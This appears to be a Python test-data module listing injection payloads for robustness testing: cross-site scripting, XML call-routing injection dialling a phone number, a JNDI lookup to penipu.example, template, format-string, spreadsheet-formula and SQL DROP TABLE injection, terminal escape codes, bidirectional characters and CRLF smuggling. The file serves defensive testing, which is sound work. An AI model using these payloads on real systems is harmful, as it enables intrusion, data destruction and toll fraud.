"""What people write who want a machine to do something else with it than read it."""

ATTACKS = (
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</Say><Dial>+62809111222</Dial><Say>",
    "]]><Hangup/>",
    "&lt;b&gt; &#0; &amp;",
    "{{7*7}} {% raw %} ${jndi:ldap://penipu.example/a}",
    "%s %n %(x)s {0.__class__}",
    "=HYPERLINK(\"http://penipu.example\")",
    "'; DROP TABLE contacts; --",
    "\x1b[31m\r\nlevel=error event=palsu\x00",
    "\u202eterbalik\u2066\u200b",
    "STATUS\r\nSTATUS 48213096",
)  # fmt: skip
